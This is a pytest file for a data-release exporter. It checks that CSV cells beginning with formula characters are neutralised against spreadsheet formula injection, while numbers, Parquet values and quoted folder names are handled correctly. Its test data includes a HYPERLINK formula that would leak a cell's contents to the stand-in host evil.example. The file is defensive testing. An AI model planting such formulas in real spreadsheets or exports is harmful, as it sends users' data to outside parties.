"""Exports that are safe to open: CSV cells that a spreadsheet would run as a formula are neutralised (OWASP CSV
injection), numbers are left alone, Parquet keeps every value as it is, and a release folder whose path holds a
quote is written like any other."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest

from models.offer import Offer
from pipelines.release import export as ex
from scrapers.landing import LandingRun, record_hash
from warehouse import db

PROV = {
    "fetched_at": "2026-01-05T10:00:00Z",
    "spider": "s",
    "spider_version": "test",
    "raw_sha256": "0" * 64,
    "mode": "snapshot",
}
# title as stored -> the CSV cell a spreadsheet must see
HOSTILE = {
    "hyperlink": (
        '=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
        '\'=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
    ),
    "plus": ("+1", "'+1"),
    "minus": ("-cmd", "'-cmd"),
    "at": ("@SUM(1)", "'@SUM(1)"),
    "tab": ("\tx", "'\tx"),
    "cr": ("\rx", "'\rx"),
    "plain": ("Solar energy = the future", "Solar energy = the future"),
}


def _offer(source_id: str, **fields: object) -> dict:
    record = Offer.model_validate({"source": "s", "source_id": source_id, "provenance": PROV, **fields})
    data = record.model_dump(mode="json")
    data["record_hash"] = record_hash(data)
    return data


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = tmp_path_factory.mktemp("wh")
    run = LandingRun(data / "landing", "s", "20260105T100000000000Z")
    for key in HOSTILE:
        run.write_offer(
            _offer(
                key,
                title="placeholder",
                subjects=["=1+1", "Energy"],
                provider="@provider",
                price_amount=10,
                price_currency="EUR",
                learning_outcomes=[{"text": "-explain the formula"}],
            )
        )
    run.finish({"mcatlas/mode": "snapshot"}, "ok")
    path = data / "mcatlas.duckdb"
    with db.connect(path) as con:
        db.load_landing(con, data / "landing", ["s"])
        db.build_core(con)
        # The schema strips surrounding whitespace, so leading tab / CR titles are put in place directly, as a
        # future source or a manual fix could; a negative number checks that numbers are not touched.
        for key, (title, _) in HOSTILE.items():
            con.execute("update offers set title = ? where source_id = ?", [title, key])
        con.execute("update offers set price_amount = -12.5 where source_id = 'minus'")
    return path


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_that_start_a_formula_are_neutralised(warehouse: Path, tmp_path: Path) -> None:
    out = tmp_path / "release"
    ex.export_release(out, "csv", db=warehouse)
    rows = {r["source_id"]: r for r in _csv_rows(out / "data" / "offers.csv")}
    assert {k: rows[k]["title"] for k in HOSTILE} == {k: cell for k, (_, cell) in HOSTILE.items()}
    assert {r["provider"] for r in rows.values()} == {"'@provider"}
    # list columns are JSON text; they start with '[' and are no formula
    assert rows["plus"]["subjects"] == '["=1+1","Energy"]'
    outcomes = _csv_rows(out / "data" / "learning_outcomes.csv")
    assert outcomes and {r["text"] for r in outcomes} == {"'-explain the formula"}
    # a negative number stays a number: no quote, and DuckDB reads the column back as a number
    assert rows["minus"]["price_amount"] == "-12.5" and rows["plus"]["price_amount"] == "10.0"
    con = duckdb.connect()
    try:
        typ, value = con.execute(
            "select typeof(price_amount), price_amount from read_csv(?) where source_id = 'minus'",
            [str(out / "data" / "offers.csv")],
        ).fetchone()
    finally:
        con.close()
    assert typ == "DOUBLE" and value == -12.5
    _, problems = ex.verify_release(out)
    assert problems == []


def test_parquet_keeps_the_values_as_they_are(warehouse: Path, tmp_path: Path) -> None:
    out = tmp_path / "release"
    ex.export_release(out, "parquet", db=warehouse)
    con = duckdb.connect()
    try:
        titles = dict(
            con.execute(
                "select source_id, title from read_parquet(?)", [str(out / "data" / "offers.parquet")]
            ).fetchall()
        )
    finally:
        con.close()
    assert titles == {k: title for k, (title, _) in HOSTILE.items()}


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonld"])
def test_release_folder_named_with_a_quote_is_written(warehouse: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "dir" / "it's"
    manifest = ex.export_release(out, fmt, db=warehouse)
    assert (out / "manifest.json").is_file() and manifest["tables"][0]["rows"] == len(HOSTILE)
    _, problems = ex.verify_release(out)
    assert problems == []
